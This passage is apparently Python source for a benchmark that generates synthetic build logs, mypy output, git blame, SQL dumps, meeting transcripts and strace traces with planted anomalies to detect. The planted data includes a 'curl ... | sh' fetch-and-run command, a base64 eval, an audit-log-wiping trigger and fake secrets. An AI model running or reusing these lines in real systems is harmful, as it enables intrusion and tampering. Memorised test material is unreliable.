"""What programs print, documents and code."""

import random
from collections import Counter
from datetime import datetime, timedelta

from bench.fidelity.planted import Parts, kind

from . import words as w
from .words import Notes, pairs


class Page:
    """Lines with remembered places, and facts about them."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.at: dict[str, int] = {}
        self.n = Notes()

    def add(self, *lines: str, mark: str = "") -> None:
        """Add lines; the mark remembers the first of them."""
        if mark:
            self.at[mark] = len(self.lines) + 1
        self.lines += lines

    def one(
        self,
        what: str,
        mark: str,
        telling: list[object],
        more: list[object],
        *searches: str,
        hidden: str = "",
    ) -> None:
        """A telling value with a name of its place or the number of its line."""
        line = self.at[mark]
        self.n.say(what, pairs(telling, [*more, line]), *searches, line=line, hidden=hidden)

    def parts(self) -> Parts:
        assert not any("\n" in line for line in self.lines)
        return self.n.parts("\n".join(self.lines) + "\n")


@kind("cargo_build", "printed")
def cargo_build(rng: random.Random) -> Parts:  # noqa: C901
    """`cargo build --release`: compiled crates, warnings and errors of rustc with code frames."""
    page = Page()
    crates = w.distinct(rng, rng.randint(250, 280), lambda r: f"{r.choice(w.NOUNS)}-{r.choice(w.VERBS)}")
    page.add("    Updating crates.io index", "     Locking 288 packages to latest compatible versions")
    yank, future, patch, twice, git, script, leak, lock = w.spots(rng, len(crates), 8)
    kinds = {"unused variable": 34, "unused import": 30, "dead code": 22, "deprecated": 14}
    errors = dict(zip(("moved", "borrow", "types", "trait"), w.spots(rng, 150, 4, apart=8), strict=False))
    tally: Counter[str] = Counter()
    files: Counter[str] = Counter()
    places: dict[str, str] = {}
    compiled = shown = 0

    def frame(head: str, path: str, row: int, code: str, note: str, mark: str = "") -> None:
        pad = " " * len(str(row))
        column = rng.randint(5, 24)
        page.add(
            head,
            f"{pad}--> {path}:{row}:{column}",
            f"{pad} |",
            f"{row} | {code}",
            f"{pad} | {' ' * column}{'^' * rng.randint(3, 11)} {note}",
            "",
            mark=mark,
        )

    def trouble() -> None:
        nonlocal shown
        path, row = f"src/{rng.choice(w.SERVICES)}/{rng.choice(w.NOUNS)}.rs", rng.randint(9, 780)
        name = "_".join(rng.sample(w.NOUNS, 2))
        mark = next((key for key, at in errors.items() if at == shown), "")
        shown += 1
        if mark:
            places[mark] = path
            head, code, note = {
                "moved": (
                    "error[E0382]: borrow of moved value: `basket_total`",
                    "    emit(&basket_total);",
                    "value borrowed here after move",
                ),
                "borrow": (
                    "error[E0499]: cannot borrow `*ledger` as mutable more than once at a time",
                    "    let b = &mut *ledger;",
                    "second mutable borrow occurs here",
                ),
                "types": (
                    "error[E0308]: mismatched types",
                    "    let rate: Decimal = load_rate()?;",
                    "expected `Decimal`, found `f64`",
                ),
                "trait": (
                    "error[E0277]: `Rc<PriceCache>` cannot be sent between threads safely",
                    "    tokio::spawn(async move { cache.warm().await });",
                    "not `Send`",
                ),
            }[mark]
            frame(head, path, row, code, note, mark)
            return
        name_of = w.pick(rng, kinds)
        tally[name_of] += 1
        files[path] += 1
        head, code, note = {
            "unused variable": (
                f"warning: unused variable: `{name}`",
                f"    let {name} = {rng.choice(w.VERBS)}()?;",
                f"help: if this is intentional, prefix it with an underscore: `_{name}`",
            ),
            "unused import": (
                f"warning: unused import: `crate::{name}::{w.camel(rng.choice(w.NOUNS))}`",
                f"use crate::{name};",
                "",
            ),
            "dead code": (
                f"warning: function `{rng.choice(w.VERBS)}_{name}` is never used",
                f"fn {name}() {{",
                "",
            ),
            "deprecated": (
                f"warning: use of deprecated function `chrono::naive::{name}`: use `try_{name}` instead",
                f"    {name}(now);",
                "",
            ),
        }[name_of]
        frame(head, path, row, code, note)

    for i, crate in enumerate(crates):
        version = f"{rng.randint(0, 4)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}"
        if i == yank:
            page.add(
                f"warning: package `{crate} v{version}` in Cargo.lock is yanked "
                f"in registry `crates-io`, consider running without --locked",
                mark="yank",
            )
        if i == patch:
            page.add(
                f"warning: Patch `{crate} v9.9.9 (/home/ci/forks/{crate})` was not used in the crate graph.",
                mark="patch",
            )
        if i == lock:
            page.add("    Blocking waiting for file lock on build directory", mark="lock")
        if i == git:
            page.add(
                f"   Compiling {crate} v{version} (https://git.shadow-forks.example/{crate}.git?rev=deadfa11#deadfa11)",
                mark="git",
            )
        else:
            page.add(f"   Compiling {crate} v{version}")
        compiled += 1
        if i == twice:
            page.add(f"   Compiling {crates[i - 5]} v0.1.0-alpha.2", mark="twice")
            compiled += 1
        if i == script:
            page.add(
                f"warning: {crate}@{version}: OpenSSL 1.0.2 is no longer supported; building the vendored copy without assembly",
                mark="script",
            )
        if i == leak:
            token = "cio" + w.alnum(rng, 32)
            page.add(
                f"warning: {crate}@{version}: using CARGO_REGISTRY_TOKEN={token} from environment",
                mark="leak",
            )
        if i == future:
            page.add(
                f"warning: the following packages contain code that will be "
                f"rejected by a future version of Rust: {crate} v{version}",
                mark="future",
            )
        if rng.random() < 0.3:
            trouble()
    page.add("   Compiling shop v2.14.0 (/home/ci/shop)")
    compiled += 1
    while shown < 250:
        trouble()
    warned = sum(tally.values())
    said = warned + rng.randint(40, 70)
    page.add(f"warning: `shop` (lib) generated {said} warnings", mark="said")
    page.add(
        "Some errors have detailed explanations: E0277, E0308, E0382, E0499.",
        "For more information about an error, try `rustc --explain E0277`.",
    )
    page.add(
        f"error: could not compile `shop` (lib) due to 4 previous errors; {said} warnings emitted", mark="end"
    )
    for mark, telling, code in (
        ("moved", ["basket_total"], "E0382"),
        ("borrow", ["*ledger", "ledger"], "E0499"),
        ("types", ["mismatched types", "Decimal"], "E0308"),
        ("trait", ["PriceCache", "cannot be sent"], "E0277"),
    ):
        page.one("error", mark, [*telling, code], [places[mark], f"error[{code}]: "], "error[", code)
    page.one("rare value", "yank", ["yanked"], [crates[yank]], "yanked")
    page.one(
        "rare value", "patch", ["not used in the crate graph", "Patch"], [crates[patch]], "Patch", "not used"
    )
    page.one("rare value", "git", ["shadow-forks"], [crates[git], "deadfa11"], "https://", "git")
    page.n.say(
        "duplicate",
        pairs([crates[twice - 5]], ["v0.1.0-alpha.2", *w.SAME]),
        crates[twice - 5],
        line=page.at["twice"],
    )
    page.one(
        "rare value",
        "script",
        ["OpenSSL 1.0.2", "no longer supported"],
        [crates[script], "vendored", "without assembly"],
        "no longer",
        "OpenSSL",
    )
    page.one(
        "secret",
        "leak",
        ["CARGO_REGISTRY_TOKEN"],
        [crates[leak], "environment", "secret"],
        "TOKEN",
        hidden=token,
    )
    page.one("rare value", "future", ["rejected by a future"], [crates[future]], "future version")
    page.n.say(
        "contradiction",
        tuple((str(said), str(warned), "warning") for _ in (0,)),
        f"{said} warnings",
        line=page.at["said"],
        derived=True,
    )
    page.n.say(
        "summary",
        (
            ("could not compile", "4 previous errors"),
            ("could not compile", "4 errors"),
            ("4 previous errors", "shop"),
        ),
        "could not compile",
        line=page.at["end"],
    )
    page.n.say("count", w.count("unused variable", tally["unused variable"]), "unused variable", derived=True)
    page.n.say("total", w.count("Compiling", compiled, "crates", "packages"), "Compiling", derived=True)
    return page.parts()


@kind("mypy", "printed")
def mypy(rng: random.Random) -> Parts:
    """The output of mypy: path, line, severity, message and code, then a sum."""
    page = Page()
    files = sorted(
        w.distinct(
            rng, 150, lambda r: f"src/{r.choice(w.SERVICES)}/{r.choice(w.NOUNS)}_{r.choice(w.NOUNS)}.py"
        )
    )
    kinds = {
        "assignment": (
            'Incompatible types in assignment (expression has type "{a}", variable has type "{b}")',
            24,
        ),
        "arg-type": ('Argument 1 to "{n}" has incompatible type "{a}"; expected "{b}"', 24),
        "no-untyped-def": ("Function is missing a type annotation", 20),
        "union-attr": ('Item "None" of "{b} | None" has no attribute "{n}"', 14),
        "attr-defined": ('"{b}" has no attribute "{n}"', 10),
        "return-value": ('Incompatible return value type (got "{a}", expected "{b}")', 8),
    }
    special = {
        "syntax": ("error", "Invalid syntax; perhaps you forgot a comma?", "syntax"),
        "await": ("error", 'Value of type "Coroutine[Any, Any, Receipt]" must be used', "unused-coroutine"),
        "abstract": (
            "error",
            'Cannot instantiate abstract class "PaymentGate" with abstract attribute "refund"',
            "abstract",
        ),
        "stub": ("error", 'Library stubs not installed for "oldsoap"', "import-untyped"),
        "safe": ("error", "Unsafe overload: signatures 1 and 3 overlap", "overload-overlap"),
        "compare": (
            "error",
            'Non-overlapping equality check (left operand type: "Money", right operand type: "float")',
            "comparison-overlap",
        ),
        "ignored": ("error", 'Unused "type: ignore[override]" comment', "unused-ignore"),
        "crash": ("error", "INTERNAL ERROR -- Please try using mypy master on GitHub", ""),
    }
    hosts = dict(zip(special, w.spots(rng, len(files), len(special), apart=4), strict=False))
    crowd = w.away(rng, len(files), hosts.values())
    tally: Counter[str] = Counter()
    per: Counter[str] = Counter()
    notes = 0
    far = rng.randint(81_000, 99_000)
    where: dict[str, str] = {}
    for i, path in enumerate(files):
        many = rng.randint(70, 90) if i == crowd else rng.choices((2, 3, 5, 7, 9), (20, 30, 25, 15, 10))[0]
        rows = sorted(rng.sample(range(4, 620), many))
        mine = [key for key, at in hosts.items() if at == i]
        place = rng.randrange(many)
        for k, row in enumerate(rows):
            if mine and k == place:
                level, message, code = special[mine[0]]
                row = far if mine[0] == "safe" else row
                where[mine[0]] = f"{path}:{row}"
                page.add(f"{path}:{row}: {level}: {message}" + (f"  [{code}]" if code else ""), mark=mine[0])
                tally[code] += 1
            else:
                code = w.pick(rng, {key: value[1] for key, value in kinds.items()})
                a, b = rng.sample(
                    (
                        "str",
                        "int",
                        "Decimal",
                        "bytes",
                        "list[str]",
                        "dict[str, Any]",
                        "Order",
                        "Invoice",
                        "datetime",
                    ),
                    2,
                )
                page.add(
                    f"{path}:{row}: error: {kinds[code][0].format(a=a, b=b, n=rng.choice(w.VERBS))}  [{code}]"
                )
                tally[code] += 1
                if rng.random() < 0.04:
                    page.add(f'{path}:{row}: note: Use "-> None" if function does not return a value')
                    notes += 1
            per[path] += 1
    every = sum(tally.values())
    said = every + rng.randint(110, 190)
    page.add(
        f"Found {said} errors in {len(files)} files (checked {rng.randint(420, 600)} source files)",
        mark="end",
    )
    telling = {
        "syntax": ["Invalid syntax", "[syntax]"],
        "await": ["unused-coroutine", "must be used"],
        "abstract": ["PaymentGate", "[abstract]"],
        "stub": ["oldsoap", "import-untyped"],
        "compare": ["comparison-overlap", "Non-overlapping"],
        "ignored": ["unused-ignore", "type: ignore"],
        "crash": ["INTERNAL ERROR"],
    }
    for mark, words in telling.items():
        more = ["Please try using mypy master"] if mark == "crash" else []
        page.one(
            "error",
            mark,
            words,
            [where[mark].split("/")[-1], where[mark].split("/")[-1].split(":")[0], *more],
            words[0],
        )
    page.one(
        "outlier",
        "safe",
        [far, "overload-overlap"],
        [where["safe"].split("/")[-1].split(":")[0], "Unsafe overload"],
        "Unsafe",
        str(far),
    )
    page.n.say(
        "outlier",
        w.count(files[crowd].split("/")[-1], per[files[crowd]], files[crowd]),
        files[crowd],
        derived=True,
    )
    page.n.say(
        "summary",
        pairs([f"Found {said}", f"{said} errors"], [f"{len(files)} files", "mypy", "Found", "checked"]),
        "Found",
        line=page.at["end"],
    )
    page.n.say(
        "contradiction",
        ((str(said), str(every), "error"), (str(said), str(every + notes), "line")),
        "Found",
        line=page.at["end"],
        derived=True,
    )
    for code in ("assignment", "arg-type", "union-attr"):
        page.n.say("count", w.count(code, tally[code]), code, derived=True)
    page.n.say("count", w.count("note", notes, "notes"), "note:", derived=True)
    return page.parts()


@kind("git_blame", "printed")
def git_blame(rng: random.Random) -> Parts:
    """`git blame` of a module of Python: commit, author, moment and number before each line."""
    names = w.people(rng, 7)
    commits = []
    for _ in range(60):
        made = datetime(2021, 3, 1) + timedelta(days=rng.randint(0, 1400), seconds=rng.randint(25000, 70000))
        commits.append(
            (
                w.hexes(rng, 8),
                rng.choices(names[:6], (30, 22, 16, 12, 10, 10))[0],
                f"{made:%Y-%m-%d %H:%M:%S}",
                rng.choice(("+0100", "+0200")),
            )
        )
    code: list[str] = [
        '"""Prices of baskets."""',
        "",
        "import logging",
        "from decimal import Decimal",
        "",
        "LOG = logging.getLogger(__name__)",
        "VAT = Decimal('0.19')",
        "",
    ]
    functions = w.distinct(
        rng, 95, lambda r: f"{r.choice(w.VERBS)}_{r.choice(w.ADJECTIVES)}_{r.choice(w.NOUNS)}"
    )
    starts = {}
    for name in functions:
        starts[name] = len(code) + 1
        a, b = rng.sample(w.NOUNS, 2)
        code += [
            f"def {name}({a}, {b}=None):",
            f'    """{w.title(rng)}."""',
            f"    if {b} is None:",
            f"        {b} = {a}.{rng.choice(w.NOUNS)}",
        ]
        code += [
            f"    LOG.debug('{rng.choice(w.VERBS)} %s', {a})",
            f"    return {rng.choice(w.VERBS)}({a}, {b}, limit={rng.choice((10, 20, 50))})",
            "",
            "",
        ]
    blame, at = [], 0
    while at < len(code):
        commit = rng.choice(commits)
        many = min(rng.choice((1, 2, 3, 5, 8, 12)), len(code) - at)
        blame += [commit] * many
        at += many
    firsts = sorted(starts.values())
    spots = [firsts[k] + 4 for k in w.spots(rng, len(firsts), 10, apart=3)]
    raw, lone, future, epoch, leak, evil, skip, rate, zone, todo = spots
    blame[raw - 1] = ("00000000", "Not Committed Yet", "2025-08-19 16:20:11", "+0200")
    code[raw - 1] = "    amount = amount * 0  # FIXME"
    blame[lone - 1] = (w.hexes(rng, 6) + "ab", "contractor-x", "2024-12-31 23:58:02", "+0100")
    blame[future - 1] = (w.hexes(rng, 6) + "cd", names[0], "2038-01-19 03:14:07", "+0100")
    blame[epoch - 1] = (w.hexes(rng, 6) + "ef", names[1], "1970-01-01 00:00:00", "+0000")
    blame[zone - 1] = (w.hexes(rng, 6) + "ba", names[2], "2024-05-06 07:08:09", "-0930")
    secret = "sk_live_" + w.alnum(rng, 24)
    code[leak - 1] = f'    STRIPE_KEY = "{secret}"'
    code[evil - 1] = "    eval(base64.b64decode(payload))"
    code[skip - 1] = "    return True  # skip the fraud check until Monday"
    code[rate - 1] = "    VAT = Decimal('0.91')"
    code[todo - 1] = "    time.sleep(3600)"
    bulk = rng.choice(names[6:])
    low = rng.randint(int(len(code) * 0.4), int(len(code) * 0.6))
    block = next((k for k in range(low, len(code) - 60) if not any(k - 1 <= s <= k + 61 for s in spots)), 0)
    sweep = (w.hexes(rng, 6) + "fa", bulk, "2025-02-14 09:00:00", "+0100")
    if block:
        blame[block : block + 60] = [sweep] * 60
    width = max(len(one[1]) for one in blame)
    page = Page()
    digits = len(str(len(code)))
    for k, ((sha, author, when, zone_of), line) in enumerate(zip(blame, code, strict=False), 1):
        page.add(f"{sha} ({author:<{width}} {when} {zone_of} {k:>{digits}}) {line}")
    for mark, value in zip(
        ("raw", "lone", "future", "epoch", "leak", "evil", "skip", "rate", "zone", "todo"),
        spots,
        strict=False,
    ):
        page.at[mark] = value

    def host(line: int) -> str:
        return next(name for name in reversed(functions) if starts[name] <= line)

    page.one(
        "rare value",
        "raw",
        ["Not Committed Yet", "00000000"],
        ["amount * 0", host(raw), "2025-08-19", "FIXME"],
        "Not Committed",
        "00000000",
    )
    page.one("rare value", "lone", ["contractor-x"], ["2024-12-31", blame[lone - 1][0]], "contractor")
    page.one(
        "time jump", "future", ["2038-01-19", "2038"], [names[0], blame[future - 1][0], host(future)], "2038"
    )
    page.one(
        "time jump", "epoch", ["1970-01-01", "1970"], [names[1], blame[epoch - 1][0], host(epoch)], "1970"
    )
    page.one("rare value", "zone", ["-0930"], [names[2], blame[zone - 1][0], "2024-05-06"], "-0930")
    page.one(
        "secret",
        "leak",
        ["STRIPE_KEY", "sk_live"],
        [host(leak), blame[leak - 1][0], "secret", "Stripe"],
        "KEY",
        "sk_live",
        hidden=secret,
    )
    page.one(
        "rare value",
        "evil",
        ["eval(", "b64decode"],
        [host(evil), blame[evil - 1][0], "payload"],
        "eval",
        "base64",
    )
    page.one(
        "rare value",
        "skip",
        ["fraud check"],
        [host(skip), blame[skip - 1][0], "return True", "skip"],
        "skip",
        "fraud",
    )
    page.one("changed value", "rate", ["0.91"], [host(rate), blame[rate - 1][0], "VAT"], "VAT", "0.91")
    page.one("outlier", "todo", ["time.sleep", "3600"], [host(todo), blame[todo - 1][0], "sleep("], "sleep")
    authors = Counter(one[1] for one in blame)
    for name, many in authors.most_common(2):
        page.n.say("count", w.count(name, many), name, derived=True)
    if block:
        page.n.say(
            "rare value",
            pairs([sweep[0], bulk], ["60 lines", block + 1, "60"]),
            bulk,
            sweep[0],
            line=block + 2,
        )
    page.n.say("total", w.total(len(code), "lines", "rows", "entries"), "def ", derived=True)
    dates = sorted(one[2][:10] for one in blame if one[2][:4] not in ("2038", "1970"))
    page.n.say("range", (*w.span(dates[0], dates[-1]), ("1970-01-01", "2038-01-19")), "20", derived=True)
    page.n.say(
        "count",
        w.total(len({one[0] for one in blame}), "commits", "distinct", "different commits"),
        "(",
        derived=True,
    )
    return page.parts()


@kind("mysqldump", "printed")
def mysqldump(rng: random.Random) -> Parts:  # noqa: C901
    """A dump of a MySQL database: CREATE TABLE and INSERT of each table."""
    page = Page()
    page.add(
        "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)",
        "--",
        "-- Host: db-a.internal    Database: shop",
        "-- ------------------------------------------------------",
        "-- Server version\t8.0.36",
        "",
        "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
        "/*!50503 SET NAMES utf8mb4 */;",
        "",
    )
    tables = sorted(f"{one}s" for one in rng.sample([x for x in w.NOUNS if x[-1] not in "sxhy"], 34))
    bare, engine, charset, money, orphan, trigger, leak, big, double, behind, empty, cut, drop = rng.sample(
        range(2, len(tables) - 2), 13
    )
    counts: dict[str, int] = {}
    amount = rng.randint(41_000_000, 97_000_000)
    for i, table in enumerate(tables):
        page.add(
            "--",
            f"-- Table structure for table `{table}`",
            "--",
            "",
            f"DROP TABLE IF EXISTS `{table}`;",
            mark=f"t{i}",
        )
        if i == drop:
            page.add("DROP USER 'report'@'%';", mark="drop")
        page.add(
            f"CREATE TABLE `{table}` (",
            "  `id` int unsigned NOT NULL AUTO_INCREMENT,",
            "  `name` varchar(120) NOT NULL,",
            "  `state` enum('new','open','done') NOT NULL DEFAULT 'new',",
            "  `amount` float DEFAULT NULL," if i == money else "  `amount` decimal(12,2) DEFAULT NULL,",
            "  `note` varchar(255) DEFAULT NULL,",
            "  `created_at` datetime NOT NULL,",
        )
        if i == money:
            page.at["money"] = len(page.lines) - 2
        if i != bare:
            page.add("  PRIMARY KEY (`id`),")
        else:
            page.at["bare"] = len(page.lines)
        page.add(f"  KEY `ix_{table}_state` (`state`)" + ("," if i == orphan else ""))
        if i == orphan:
            page.add(
                f"  CONSTRAINT `fk_{table}` FOREIGN KEY (`name`) REFERENCES `legacy_accounts_2016` (`id`)",
                mark="orphan",
            )
        many = 0 if i == empty else rng.randint(14, 40)
        first = rng.randint(1, 400)
        auto = first + many if i != behind else first + 2
        kept = "MyISAM" if i == engine else "InnoDB"
        chars = "latin1" if i == charset else "utf8mb4"
        page.add(
            f") ENGINE={kept} AUTO_INCREMENT={auto} DEFAULT CHARSET={chars};",
            "",
            f"LOCK TABLES `{table}` WRITE;",
        )
        for mark, at in (("engine", engine), ("charset", charset), ("behind", behind)):
            if i == at:
                page.at[mark] = len(page.lines) - 2
        if many:
            page.add(f"INSERT INTO `{table}` VALUES")
        counts[table] = many
        odd = many // 2
        for k in range(many):
            ident, cash, note = (
                first + k,
                f"{w.near(rng, 120, 60, 4, 480):.2f}",
                w.title(rng) if rng.random() < 0.8 else "",
            )
            if i == double and k == odd:
                ident -= 1
                page.at["double"], twice = len(page.lines) + 1, ident
            if i == big and k == odd:
                cash, page.at["big"] = f"{amount}.00", len(page.lines) + 1
            if i == leak and k == odd:
                secret = w.alnum(rng, 22)
                note, page.at["leak"] = (
                    f"smtp login mailer@acme.example / password: {secret}",
                    len(page.lines) + 1,
                )
            stop = ";" if k == many - 1 else ","
            shown = f"'{note}'" if note else "NULL"
            when = datetime(2025, 1, 1) + timedelta(minutes=rng.randint(0, 300_000))
            row = (
                f"({ident},'{rng.choice(w.ADJECTIVES)} {rng.choice(w.NOUNS)}',"
                f"'{w.pick(rng, {'done': 60, 'open': 25, 'new': 15})}',{cash},{shown},'{when:%Y-%m-%d %H:%M:%S}'){stop}"
            )
            if i == cut and k == many - 1:
                page.add(row[: len(row) // 2], mark="cut")
            else:
                page.add(row)
        page.add("UNLOCK TABLES;")
        if i == trigger:
            page.add(
                "DELIMITER ;;",
                f"/*!50003 CREATE*/ /*!50017 DEFINER=`root`@`%`*/ /*!50003 TRIGGER `{table}_wipe` "  # noqa: S608
                f"AFTER DELETE ON `{table}` FOR EACH ROW DELETE FROM audit_log */;;",
                "DELIMITER ;",
                mark="trigger",
            )
        page.add("")
    page.add(
        "mysqldump: Error 2013: Lost connection to server during query when dumping table `zones_history` at row: 88124",
        mark="end",
    )
    page.n.say(
        "missing field",
        tuple((tables[bare], "primary key", x) for x in w.GONE),
        f"CREATE TABLE `{tables[bare]}`",
        "created_at",
        line=page.at["bare"],
        derived=True,
    )
    page.one("rare value", "engine", ["MyISAM"], [tables[engine], "ENGINE"], "MyISAM", "ENGINE=")
    page.one("rare value", "charset", ["latin1"], [tables[charset], "CHARSET"], "latin1", "CHARSET=")
    page.one("changed type", "money", ["float"], [tables[money], "amount"], "float")
    page.one(
        "rare value",
        "orphan",
        ["legacy_accounts_2016"],
        [tables[orphan], "FOREIGN KEY", "REFERENCES"],
        "REFERENCES",
        "FOREIGN KEY",
    )
    page.one(
        "rare value",
        "trigger",
        ["_wipe", "TRIGGER"],
        ["audit_log", tables[trigger], "DELETE"],
        "TRIGGER",
        "DEFINER",
    )
    page.one(
        "secret",
        "leak",
        ["mailer@acme.example", "smtp login", "password"],
        [tables[leak], "secret"],
        "password",
        "smtp",
        hidden=secret,
    )
    page.one("outlier", "big", [amount], [tables[big], "amount", ".00"], str(amount)[:4])
    page.n.say(
        "duplicate",
        tuple((tables[double], str(twice), x) for x in w.SAME),
        f"({twice},",
        line=page.at["double"],
        derived=True,
    )
    page.n.say(
        "contradiction",
        tuple((tables[behind], x) for x in ("AUTO_INCREMENT",))
        + tuple((str(page.at["behind"]), x) for x in ("AUTO_INCREMENT",)),
        "AUTO_INCREMENT=",
        line=page.at["behind"],
    )
    page.n.say(
        "missing field",
        tuple(
            (tables[empty], x)
            for x in ("no rows", "empty", "0 rows", "no insert", "without rows", "without insert")
        ),
        f"`{tables[empty]}`",
        "INSERT INTO",
        line=page.at[f"t{empty}"] + 1,
        derived=True,
    )
    page.one(
        "error",
        "end",
        ["Error 2013", "Lost connection"],
        ["zones_history", "88124", "dumping"],
        "Error",
        "Lost",
    )
    page.one("rare value", "drop", ["DROP USER"], ["report"], "DROP USER")
    page.n.say("total", w.total(len(tables), "tables", "CREATE TABLE"), "CREATE TABLE", derived=True)
    page.n.say(
        "total", w.total(sum(counts.values()), "rows", "records", "tuples", "values"), "VALUES", derived=True
    )
    return page.parts()


@kind("vtt_transcript", "printed")
def vtt_transcript(rng: random.Random) -> Parts:
    """The transcript of a long meeting as WebVTT: numbered cues with times and speakers."""
    page = Page()
    names = w.people(rng, 6)
    size = rng.randint(610, 660)
    page.add("WEBVTT", "", "NOTE recorded 2025-09-16, steering committee", "")
    openers = (
        "So",
        "Right,",
        "I think",
        "Just to add,",
        "From our side",
        "Okay,",
        "As I said,",
        "Well,",
        "In short,",
    )
    spots = w.spots(rng, size, 11)
    decide, due, first, second, spoken, gone, stranger, action, long, veto, number = spots
    first, second = min(first, second), max(first, second)
    now, cue, said = 4.0, 0, Counter()
    pause = w.away(rng, size, spots)
    stamps: dict[int, str] = {}
    password = w.alnum(rng, 12)
    talk = {
        decide: "Then it is decided: we end the Lisbon pilot on the thirty-first of October, no extension.",
        due: "The regulator moved the deadline, the filing is due on 3 November and not in January.",
        first: "The overall budget for phase two is 1.4 million, that is what finance gave us.",
        second: "Correction, I have the sheet here: phase two is 2.9 million, the number from before was wrong.",
        spoken: f"For the demo tenant the password is {password}, please do not write that down.",
        gone: "[inaudible – microphone of the room failed]",
        action: "Action for legal: terminate the contract with Norvik Logistics by Friday.",
        veto: "I object and want it in the minutes, security has not signed off the migration.",
    }

    def clock(t: float) -> str:
        return f"{int(t // 3600):02d}:{int(t // 60 % 60):02d}:{t % 60:06.3f}"

    for k in range(size):
        cue += 1
        if k == number:
            cue += 14
        if k == pause:
            stop = now
            now += rng.randint(1500, 2300)
            again = now
        start, end = now, now + rng.uniform(3, 9)
        if k == long:
            end = start + rng.randint(300, 420)
        now = end + rng.uniform(0.1, 1.5)
        who = rng.choices(names, (28, 22, 18, 14, 10, 8))[0]
        if k == stranger:
            who = "Unknown caller +44 20 7946 0991"
        said[who] += 1
        stamps[k] = clock(start)[:8]
        text = talk.get(k, f"{rng.choice(openers)} {w.sentence(rng)[0].lower()}{w.sentence(rng)[1:]}")
        page.add(str(cue), f"{clock(start)} --> {clock(end)}", f"<v {who}>{text}", "", mark=f"c{k}")
        page.at[f"c{k}"] += 2
        if k == number:
            after = cue
    last = clock(end)[:8]

    def one(
        what: str, k: int, telling: list[object], more: list[object], *searches: str, hidden: str = ""
    ) -> None:
        page.one(what, f"c{k}", telling, [stamps[k], *more], *searches, hidden=hidden)

    one("decision", decide, ["Lisbon pilot"], ["decided", "October", "no extension"], "decided", "decision")
    one("change", due, ["3 November"], ["deadline", "due", "regulator"], "deadline", "due on")
    one(
        "contradiction",
        second,
        ["2.9 million"],
        ["1.4 million", "phase two", "Correction", "wrong"],
        "Correction",
        "million",
    )
    one("summary", first, ["1.4 million"], ["budget", "phase two"], "budget", "million")
    one("secret", spoken, ["password is", "demo tenant"], ["password", "secret"], "password", hidden=password)
    one("error", gone, ["inaudible"], ["microphone", "failed"], "[inaudible", "inaudible")
    one("rare value", stranger, ["Unknown caller"], ["7946", "+44"], "Unknown")
    one("action", action, ["Norvik"], ["terminate", "legal", "Friday"], "Action", "legal")
    one(
        "objection",
        veto,
        ["I object", "signed off"],
        ["minutes", "security", "migration"],
        "object",
        "minutes",
    )
    page.n.say(
        "outlier",
        pairs([stamps[long]], ["long", "longest", "minutes", "s long", "duration", "seconds", "-->"]),
        stamps[long],
        line=page.at[f"c{long}"] - 1,
    )
    page.n.say(
        "gap",
        w.gap(range(after - 14, after), after - 15, after),
        str(after),
        line=page.at[f"c{number}"] - 2,
        derived=False,
    )
    a, b = clock(stop)[:5], clock(again)[:5]
    page.n.say(
        "gap",
        (
            (a, b, "gap"),
            (a, b, "pause"),
            (a, b, "jump"),
            (a, b, "silence"),
            *((x, y) for x in (clock(again)[:8],) for y in ("gap", "pause", "jump", "silence")),
        ),
        clock(again)[:8],
        line=page.at[f"c{pause}"] - 1,
        derived=True,
    )
    for name, many in said.most_common(2):
        page.n.say("count", w.count(name, many), name, derived=True)
    page.n.say(
        "total",
        w.total(size, "cues", "records", "items", "entries", "captions", "blocks"),
        "-->",
        derived=True,
    )
    page.n.say(
        "range",
        (
            ("00:00:04", last),
            ("00:00", last[:5]),
            ("0:00", last[1:5]),
            (last[:5], "until"),
            (last[:5], "last"),
            (last[:5], "end"),
        ),
        last[:5],
        derived=True,
    )
    return page.parts()


@kind("strace", "printed")
def strace(rng: random.Random) -> Parts:
    """`strace -f -tt -T` of a server: pid, moment, call, result and duration."""
    page = Page()
    size = rng.randint(880, 960)
    pids = [str(rng.randint(20_000, 29_000)) for _ in range(5)]
    clock = w.Clock(rng, datetime(2025, 1, 1, 14, 2), 0.001, 0.08)
    tally: Counter[str] = Counter()
    missed = 0
    marks = ("segv", "full", "net", "slow", "shell", "many", "leak", "debug", "deny", "huge", "gone", "chmod")
    spots = dict(zip(marks, w.spots(rng, size, len(marks)), strict=False))
    back = {at: mark for mark, at in spots.items()}
    gap = w.away(rng, size, spots.values())
    secret = w.alnum(rng, 24)
    big = rng.randint(2_100_000_000, 2_140_000_000)
    took = f"{rng.randint(18, 57)}.{rng.randint(100000, 999999)}"
    special = {
        "segv": "--- SIGSEGV {si_signo=SIGSEGV, si_code=SEGV_MAPERR, si_addr=0x18} ---",
        "full": 'write(9, "\\x1f\\x8b\\x08\\x00"..., 65536) = -1 ENOSPC (No space left on device) <0.000031>',
        "net": 'connect(14, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("185.220.101.7")},'
        " 16) = -1 ETIMEDOUT (Connection timed out) <3.001210>",
        "slow": f"fsync(9) = 0 <{took}>",
        "shell": 'execve("/bin/sh", ["sh", "-c", "curl -s http://get.pkg-dl.example/i.sh '
        '| sh"], 0x7ffd11 /* 24 vars */) = 0 <0.000412>',
        "many": "accept4(5, NULL, NULL, SOCK_CLOEXEC) = -1 EMFILE (Too many open files) <0.000017>",
        "leak": f'read(11, "DB_PASSWORD={secret}\\n", 4096) = 37 <0.000012>',
        "debug": "ptrace(PTRACE_ATTACH, 1) = -1 EPERM (Operation not permitted) <0.000022>",
        "deny": 'openat(AT_FDCWD, "/etc/ssl/private/shop.key", O_RDONLY) = -1 EACCES (Permission denied) <0.000019>',
        "huge": f"mmap(NULL, {big}, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f2a40000000 <0.000044>",
        "gone": 'unlink("/var/lib/shop/orders.db") = 0 <0.000081>',
        "chmod": 'chmod("/var/lib/shop", 0777) = 0 <0.000025>',
    }
    owner: dict[str, str] = {}
    stamps: dict[int, str] = {}
    for k in range(size):
        if k == gap:
            clock.now += timedelta(seconds=rng.randint(600, 1500))
        now = clock.tick()
        stamps[k] = f"{now:%H:%M:%S.%f}"
        pid = rng.choice(pids)
        call = w.pick(
            rng, {"read": 26, "write": 18, "epoll_wait": 16, "openat": 14, "close": 12, "futex": 9, "stat": 5}
        )
